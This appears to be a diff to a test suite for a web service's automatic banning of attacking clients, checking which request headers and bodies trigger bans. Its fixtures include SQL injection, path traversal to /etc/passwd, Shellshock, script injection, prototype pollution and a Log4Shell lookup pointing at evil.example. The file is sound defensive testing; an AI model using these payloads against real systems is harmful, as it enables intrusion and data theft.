@@ -9,6 +9,7 @@ import { until } from '../../../kit/until.ts'
 const OPERATOR = `${APP}/operator`
 const ATTACK = `${OPERATOR}/?x=<script>`
 const PUBLIC_URL = 'https://animals.example/base'
+const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'
 
 describe('bans', () => {
   const service = forSuite((scope) => startTestService(scope, { TRUST_PROXY: 'loopback', PUBLIC_URL }))
@@ -24,14 +25,13 @@ describe('bans', () => {
     return { codes, isBanned: body.code === 'BANNED' }
   }
 
-  const ELSEWHERE: Record<string, string>[] = [
+  const BROWSER_HEADERS: Record<string, string>[] = [
     { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors', 'sec-fetch-dest': 'image' },
     { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'document' },
-    { 'sec-fetch-site': 'same-site' },
-    { origin: 'https://evil.example' },
-    { origin: 'http://animals.example' },
-    { origin: 'null' },
+    { 'sec-fetch-site': 'same-site', 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty' },
+    { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty', origin: 'null' },
   ]
+  const ELSEWHERE = BROWSER_HEADERS.map((headers) => ({ ...headers, 'user-agent': BROWSER }))
   test('do not hit visitors of another site', async () => {
     for (const headers of ELSEWHERE) {
       const label = JSON.stringify(headers)
@@ -46,6 +46,11 @@ describe('bans', () => {
     { 'sec-fetch-site': 'none', 'sec-fetch-mode': 'navigate' },
     { 'sec-fetch-site': 'same-origin', origin: 'https://animals.example' },
     { origin: 'https://animals.example' },
+    // Browsers send more than this over HTTPS.
+    { origin: 'null' },
+    { origin: 'https://evil.example', 'user-agent': BROWSER },
+    { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty', 'user-agent': 'curl/8' },
+    { 'sec-fetch-site': 'cross-site', 'user-agent': BROWSER },
   ]
   test('hit clients that attack directly, in a browser too', async () => {
     for (const headers of OWN) {
@@ -70,11 +75,77 @@ describe('bans', () => {
     }
   })
 
+  const HEADERS: Record<string, string>[] = [
+    { authorization: "Bearer ' or '1'='1" },
+    { cookie: 'a=1; file=..%2f..%2fetc%2fpasswd' },
+    { 'user-agent': '() { :; }; /bin/bash -c x' },
+    { 'user-agent': '<script>alert(1)</script>' },
+    { 'x-api-version': '\u0024{jndi:ldap://evil.example/a}' },
+  ]
+  test('hit an attack in a header', async () => {
+    for (const headers of HEADERS) {
+      const reply = await requestAs(`${OPERATOR}/overview`, headers)
+      assert.deepEqual(reply, { codes: ['BANNED'], isBanned: true }, JSON.stringify(headers))
+      const elsewhere = await requestAs('/api/v1/version', headers)
+      assert.equal(elsewhere.isBanned, false, JSON.stringify(headers))
+    }
+  })
+
+  const HARMLESS_HEADERS: Record<string, string>[] = [
+    { cookie: 'theme=dark; id=5; last=/shop/index.php?a=1&id=2; cat=7' },
+    { 'user-agent': 'Mozilla/5.0 (Linux; U; Android 4.1; id; GT-I9100) AppleWebKit/534.30; id-id' },
+    { 'x-requested-with': 'XMLHttpRequest' },
+    { authorization: 'Basic YWRtaW46YWRtaW4=' },
+  ]
+  test('do not hit usual headers, queries and bodies', async () => {
+    for (const headers of HARMLESS_HEADERS) {
+      const reply = await requestAs(`${OPERATOR}/overview?a=1&id=2&cat=7`, headers, 8)
+      assert.deepEqual(reply, { codes: Array(8).fill('TOKEN_REQUIRED'), isBanned: false }, JSON.stringify(headers))
+    }
+    assert.equal(await isBannedAfterBody('{"address":"192.0.2.1","reason":"asks for /wp-login.php"}'), false)
+  })
+
+  const isBannedAfterBody = async (body: string, headers: Record<string, string> = {}) => {
+    const from = { 'x-forwarded-for': `203.0.113.${++lastAddress}` }
+    const reply = await service().fetchJson(`${OPERATOR}/bans`, {
+      method: 'POST',
+      body,
+      headers: { ...from, ...headers },
+    })
+    assert.equal(reply.status, 401)
+    return (await service().fetchJson('/api/v1/version', { headers: from })).body.code === 'BANNED'
+  }
+  test('hit an attack in the body of a request without a token', async () => {
+    for (const attack of ['{"reason":"../../etc/passwd"}', 'a=1&b=%27+or+1%3D1', '{"__proto__":{"x":1}}']) {
+      assert.equal(await isBannedAfterBody(attack), true, attack)
+      assert.equal(await isBannedAfterBody(attack, ELSEWHERE[2]), false, 'of a page of another site')
+    }
+    assert.equal(await isBannedAfterBody(`../etc/passwd${'x'.repeat(100_000)}`), true, 'in a large body')
+  })
+
+  test('hit clients that send malformed tokens', async () => {
+    for (const authorization of ['Bearer', 'Bearer a b', 'mng_guess', 'Token x', 'Bearer \t']) {
+      const guessed = await requestAs(`${OPERATOR}/overview`, { authorization }, 5)
+      assert.deepEqual(guessed, { codes: Array(5).fill('TOKEN_INVALID'), isBanned: true }, authorization)
+    }
+  })
+
   test('do not apply to paths that only start like the operator endpoints', async () => {
     for (const path of [`${APP}/operators?x=../../etc/passwd`, `${APP}/operator-guide?q=javascript:`]) {
       assert.deepEqual(await requestAs(path, {}), { codes: ['UNKNOWN_PATH'], isBanned: false })
     }
   })
+})
+
+test('over plain HTTP, where browsers send less, the Origin of another site spares browsers only', async (t) => {
+  const { fetchJson } = await startTestService(t, { TRUST_PROXY: 'loopback', PUBLIC_URL: 'http://animals.example' })
+  const attack = async (address: string, headers: Record<string, string>) =>
+    (await fetchJson(ATTACK, { headers: { 'x-forwarded-for': address, ...headers } })).body.code
+  for (const origin of ['http://evil.example', 'https://animals.example', 'null']) {
+    assert.equal(await attack('203.0.113.1', { origin, 'user-agent': BROWSER }), 'TOKEN_REQUIRED', origin)
+  }
+  assert.equal(await attack('203.0.113.2', { origin: 'http://animals.example', 'user-agent': BROWSER }), 'BANNED')
+  assert.equal(await attack('203.0.113.3', { origin: 'null' }), 'BANNED')
 })
 
 test('a proxy that does not forward the client address is refused, logged once, and never banned', async (t) => {
